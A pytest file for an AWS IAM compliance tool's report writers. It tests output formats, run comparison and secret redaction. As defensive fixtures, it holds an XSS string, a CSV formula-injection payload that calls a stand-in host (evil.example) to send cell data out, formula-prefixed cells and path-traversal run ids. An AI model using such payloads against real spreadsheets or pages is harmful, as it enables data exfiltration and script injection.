"""Report writers: the four contract files (plus summary), latest/, new and resolved, expired suppressions, no secrets."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path

import pytest
from compliance_builders import ACCOUNT, NOW, ROOT_ARN, user_arn

from iamflow.compliance.findings import (
    CONTRACT_FIELDS,
    ERROR,
    FAIL,
    MUTED,
    PASS,
    Finding,
    passed,
)
from iamflow.compliance.report import LATEST, REPORT_FILES, write_reports
from iamflow.secrets.hygiene import redact_text

FAKE_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"  # AWS's documented example secret key


def f(check_id: str, status: str, user: str = "alice", *, severity: str = "high", **extra: object) -> Finding:
    return Finding(check_id, status, severity, ACCOUNT, "global", user_arn(user), f"{check_id} on {user}",
                   "do the fix", {"CIS-3.0": ["1.10"]}, title=f"title of {check_id}", resource_id=user,
                   resource_type="AwsIamUser", extra=dict(extra))


def sample() -> list[Finding]:
    return [
        f("iam_user_mfa_enabled_console_access", FAIL, "alice"),
        f("iam_user_mfa_enabled_console_access", PASS, "bob"),
        f("iam_rotate_access_key_90_days", FAIL, "carol", severity="medium", access_key="access_key_1",
          access_key_id="AKIAIOSFODNN7EXAMPLE"),
        Finding("iam_root_mfa_enabled", ERROR, "critical", ACCOUNT, "global", ROOT_ARN, "could not be evaluated",
                "fix", {"CIS-3.0": ["1.5"]}),
        f("iam_user_console_access_unused", FAIL, "dave").with_status(MUTED, muted_by={"owner": "ops", "reason": "leaver",
                                                                                        "expires": "2025-09-01"}),
    ]


def test_writes_every_file_and_copies_them_to_latest(tmp_path: Path) -> None:
    paths = write_reports(sample(), tmp_path, run_id="run-1", generated_at=NOW)
    assert paths.run_dir == tmp_path / "run-1"
    for name in REPORT_FILES:
        assert (tmp_path / "run-1" / name).is_file(), name
        assert (tmp_path / LATEST / name).read_bytes() == (tmp_path / "run-1" / name).read_bytes()


def test_findings_json_has_the_contract_fields(tmp_path: Path) -> None:
    write_reports(sample(), tmp_path, run_id="r", generated_at=NOW)
    rows = json.loads((tmp_path / "r" / "findings.json").read_text())
    assert isinstance(rows, list) and len(rows) == 5
    for row in rows:
        assert set(CONTRACT_FIELDS) <= set(row)
        assert row["status"] in {PASS, FAIL, ERROR, MUTED}
        assert row["severity"] in {"critical", "high", "medium", "low", "informational"}
        assert row["region"] == "global" and row["account_id"] == ACCOUNT
        assert isinstance(row["compliance"]["CIS-3.0"], list)
    key_row = next(r for r in rows if r["check_id"] == "iam_rotate_access_key_90_days")
    assert key_row["resource_arn"] == user_arn("carol") and key_row["access_key_id"] == "AKIAIOSFODNN7EXAMPLE"
    assert next(r for r in rows if r["status"] == MUTED)["muted_by"]["owner"] == "ops"
    assert rows[0]["status"] == FAIL  # failures first


def test_csv_has_a_row_per_finding(tmp_path: Path) -> None:
    write_reports(sample(), tmp_path, run_id="r", generated_at=NOW)
    with (tmp_path / "r" / "findings.csv").open() as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 5 and set(CONTRACT_FIELDS) <= set(rows[0])
    assert any(r["access_key_id"] == "AKIAIOSFODNN7EXAMPLE" for r in rows)
    assert any(r["muted_owner"] == "ops" for r in rows)
    assert {r["compliance"] for r in rows} >= {"CIS-3.0 1.10", "CIS-3.0 1.5"}


def test_ocsf_detection_findings(tmp_path: Path) -> None:
    write_reports(sample(), tmp_path, run_id="r", generated_at=NOW)
    events = json.loads((tmp_path / "r" / "findings.ocsf.json").read_text())
    assert len(events) == 5
    for e in events:
        assert e["class_uid"] == 2004 and e["class_name"] == "Detection Finding"
        assert e["category_uid"] == 2 and e["activity_id"] == 1 and e["type_uid"] == 200401
        assert e["metadata"]["version"].startswith("1.") and e["metadata"]["product"]["name"] == "iamflow"
        assert e["severity_id"] in range(1, 6) and e["time"] == int(NOW.timestamp() * 1000)
        assert e["finding_info"]["uid"] and e["finding_info"]["title"]
        assert e["cloud"]["provider"] == "AWS" and e["cloud"]["account"]["uid"] == ACCOUNT
        assert e["resources"][0]["uid"].startswith("arn:aws:iam::")
        assert e["status_code"] in {PASS, FAIL, ERROR, MUTED} and e["remediation"]["desc"]
    muted = next(e for e in events if e["status_code"] == MUTED)
    assert muted["status_id"] == 3 and muted["status"] == "Suppressed"
    assert next(e for e in events if e["unmapped"]["check_id"] == "iam_root_mfa_enabled")["severity"] == "Critical"


def test_html_has_summaries_filters_and_escapes(tmp_path: Path) -> None:
    evil = f("iam_user_mfa_enabled_console_access", FAIL, "<script>alert(1)</script>")
    expired = [{"account": ACCOUNT, "check": "iam_root_mfa_enabled", "resources": ["*"], "owner": "ops",
                "reason": "pilot", "expires": "2025-01-31", "would_mute": 1}]
    write_reports([*sample(), evil], tmp_path, run_id="r", generated_at=NOW, expired_suppressions=expired)
    page = (tmp_path / "r" / "report.html").read_text()
    for text in ("By severity", "By control", "CIS-3.0 1.10", "By account", ACCOUNT, "Expired suppressions",
                 "pilot", 'id="q"', 'id="status"', "addEventListener", "AKIAIOSFODNN7EXAMPLE"):
        assert text in page, text
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    summary = json.loads((tmp_path / "r" / "summary.json").read_text())
    assert summary["expired_suppressions"][0]["owner"] == "ops"
    assert summary["totals"] == {PASS: 1, FAIL: 3, ERROR: 1, MUTED: 1}


def test_new_fixed_and_not_evaluated_since_the_previous_run(tmp_path: Path) -> None:
    first = [f("iam_user_mfa_enabled_console_access", FAIL, "alice"), f("iam_user_mfa_enabled_console_access", FAIL, "bob"),
             f("iam_root_mfa_enabled", FAIL, "root")]
    write_reports(first, tmp_path, run_id="day-1", generated_at=NOW - timedelta(days=1))
    second = [f("iam_user_mfa_enabled_console_access", FAIL, "alice"), f("iam_user_mfa_enabled_console_access", PASS, "bob"),
              f("iam_user_mfa_enabled_console_access", FAIL, "erin"), f("iam_root_mfa_enabled", ERROR, "root")]
    write_reports(second, tmp_path, run_id="day-2", generated_at=NOW)
    summary = json.loads((tmp_path / "day-2" / "summary.json").read_text())
    assert summary["previous_run"] == "day-1"
    new_uid = second[2].uid
    assert summary["new_failures"] == [new_uid]
    # bob is fixed; the root check errored now, so it is not evaluated (the sweep could not tell)
    assert [r["resource_id"] for r in summary["resolved_failures"]] == ["bob"]
    assert summary["fixed"] == {"count": 1, "uids": [second[1].uid]}
    assert summary["not_evaluated"]["uids"] == [first[2].uid] and summary["not_evaluated"]["count"] == 1
    assert summary["not_evaluated"]["by_reason"]["check_error"] == 1
    assert summary["still_failing"] == {"count": 1}  # alice
    assert summary["changes_by_severity"]["new"]["high"] == 1
    page = (tmp_path / "day-2" / "report.html").read_text()
    assert "New failures (1)" in page and "Fixed (1)" in page and "No longer evaluated (1)" in page
    assert "since run day-1" in page and f'data-uid="{second[1].uid}"' in page
    assert json.loads((tmp_path / LATEST / "summary.json").read_text())["run_id"] == "day-2"


def test_first_run_has_nothing_to_compare(tmp_path: Path) -> None:
    write_reports(sample(), tmp_path, run_id="only", generated_at=NOW)
    summary = json.loads((tmp_path / "only" / "summary.json").read_text())
    assert summary["previous_run"] is None and summary["compared_with_previous"] is False


def test_no_secret_value_reaches_any_file(tmp_path: Path) -> None:
    leaky = f("iam_user_mfa_enabled_console_access", FAIL, "alice", note=f"key={FAKE_SECRET}")
    leaky = Finding(**{**leaky.__dict__, "message": f"found {FAKE_SECRET} somewhere"})
    write_reports([leaky], tmp_path, run_id="r", generated_at=NOW)
    for name in REPORT_FILES:
        assert FAKE_SECRET not in (tmp_path / "r" / name).read_text(), name
    assert "<redacted>" in (tmp_path / "r" / "findings.json").read_text()


def _leaks(finding: Finding) -> bool:
    return FAKE_SECRET in json.dumps(finding.to_dict()) or FAKE_SECRET in repr(finding)


@pytest.mark.parametrize("make", [
    pytest.param(lambda: f("c", FAIL, "alice").with_status(FAIL, message=f"found {FAKE_SECRET}"), id="message"),
    pytest.param(lambda: f("c", FAIL, "alice", note={"deep": [f"key={FAKE_SECRET}"]}), id="nested-extra"),
    pytest.param(lambda: f("c", FAIL, "alice", note=(FAKE_SECRET,)), id="extra-tuple"),
    pytest.param(lambda: Finding("c", FAIL, "high", ACCOUNT, "global", ROOT_ARN, "m", "fix", {}, resource_id=FAKE_SECRET),
                 id="resource-id"),
    pytest.param(lambda: Finding("c", FAIL, "high", ACCOUNT, "global", ROOT_ARN, "m", f"set it to {FAKE_SECRET}", {},
                                 title=FAKE_SECRET, tags={"k": FAKE_SECRET}), id="remediation-title-tags"),
    pytest.param(lambda: Finding("c", FAIL, "high", ACCOUNT, "global", ROOT_ARN, "m", "fix", {"X": [FAKE_SECRET]}),
                 id="compliance"),
    pytest.param(lambda: f("c", PASS).with_status(MUTED, muted_by={"reason": f"see {FAKE_SECRET}"}), id="muted-by"),
    pytest.param(lambda: Finding.from_dict({**f("c", FAIL).to_dict(), "message": FAKE_SECRET, "x": FAKE_SECRET}),
                 id="from-dict"),
])
def test_a_finding_redacts_its_values_when_it_is_made(make: object) -> None:
    finding = make()  # type: ignore[operator]
    assert not _leaks(finding)
    assert "<redacted>" in json.dumps(finding.to_dict())


def test_reports_redact_no_finding_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import iamflow.compliance.report as report

    calls: list[object] = []
    monkeypatch.setattr(report, "redact", lambda v: calls.append(v) or v)
    write_reports(sample() * 50, tmp_path, run_id="r", generated_at=NOW)
    assert calls == []  # only expired suppressions, which are not findings, pass redact() at report time


def test_redaction_spares_arns_and_key_ids() -> None:
    arn = "arn:aws:iam::123456789012:role/some/very/long/path/ThatIsLongerThanFortyCharsX1"
    assert redact_text(f"role {arn} ok") == f"role {arn} ok"
    assert redact_text("key AKIAIOSFODNN7EXAMPLE") == "key AKIAIOSFODNN7EXAMPLE"
    assert redact_text(f"secret {FAKE_SECRET}.") == "secret <redacted>."


def test_extra_fields_may_not_shadow_contract_fields() -> None:
    with pytest.raises(ValueError, match="clash"):
        passed(ROOT_ARN, "x", severity="low")
    assert Finding.from_dict(sample()[2].to_dict()).extra["access_key_id"] == "AKIAIOSFODNN7EXAMPLE"
    assert Finding.from_dict(sample()[2].to_dict()).uid == sample()[2].uid


def test_run_id_must_be_a_plain_folder_name(tmp_path: Path) -> None:
    for bad in ("latest", "../x", "a/b"):
        with pytest.raises(ValueError):
            write_reports([], tmp_path, run_id=bad, generated_at=NOW)


def test_csv_cells_never_start_a_formula_and_json_keeps_the_raw_value(tmp_path: Path) -> None:
    user = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    secret_arn = f"arn:aws:secretsmanager:eu-west-1:{ACCOUNT}:secret:+cmd-AbCdEf"
    findings = [
        Finding("iam_user_mfa_enabled_console_access", FAIL, "high", ACCOUNT, "global", user_arn(user), user,
                "fix", {}, resource_id=user, resource_type="AwsIamUser"),
        Finding("secretsmanager_automatic_rotation_enabled", FAIL, "medium", ACCOUNT, "eu-west-1", secret_arn,
                "+cmd is not rotated", "-fix it", {}, resource_id="+cmd", resource_type="AwsSecretsManagerSecret"),
        Finding("iam_user_mfa_enabled_console_access", FAIL, "high", ACCOUNT, "global", user_arn("x"), "@SUM(1)",
                "\tTAB", {}, title="\rCR", resource_id="x"),
    ]
    write_reports(findings, tmp_path, run_id="r", generated_at=NOW)

    with (tmp_path / "r" / "findings.csv").open(newline="", encoding="utf-8") as fh:
        rows = {r["resource_id"]: r for r in csv.DictReader(fh)}
    assert rows["'" + user]["message"] == "'" + user
    assert rows["'+cmd"]["message"] == "'+cmd is not rotated" and rows["'+cmd"]["remediation"] == "'-fix it"
    assert rows["x"]["message"] == "'@SUM(1)" and rows["x"]["remediation"] == "'\tTAB" and rows["x"]["title"] == "'\rCR"
    assert rows["x"]["resource_arn"] == user_arn("x")  # a cell that starts safely is left as it is
    for row in rows.values():
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    raw = {r["resource_id"]: r for r in json.loads((tmp_path / "r" / "findings.json").read_text())}
    assert raw[user]["message"] == user and raw["+cmd"]["message"] == "+cmd is not rotated"
    html_text = (tmp_path / "r" / "report.html").read_text()
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1" in html_text and user not in html_text
